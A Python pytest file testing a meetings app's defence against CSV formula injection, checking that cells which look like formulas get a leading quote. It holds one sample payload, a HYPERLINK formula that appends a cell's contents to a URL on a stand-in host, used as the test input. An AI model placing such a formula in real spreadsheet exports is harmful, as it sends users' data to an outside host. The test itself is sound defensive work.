"""Every CSV cell that a spreadsheet would run as a formula is neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from meetings import csv_safe, exports

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_starting_like_a_formula_get_a_quote(start):
    assert csv_safe.safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["危機管理政策課", "a=b", "1-2", "", 42, -1, None])
def test_other_cells_are_left_as_they_are(value):
    assert csv_safe.safe_cell(value) == value


def test_the_pdf_export_manifest_neutralises_titles():
    body = exports._manifest(
        [
            {
                "name": "a.pdf",
                "title": HYPERLINK,
                "held_on": "2024-05-10",
                "status": "公開中",
                "kind": "公開版",
                "size": 1234,
                "sha256": "0" * 64,
            }
        ]
    )
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + HYPERLINK
    assert rows[1][5] == "1234"
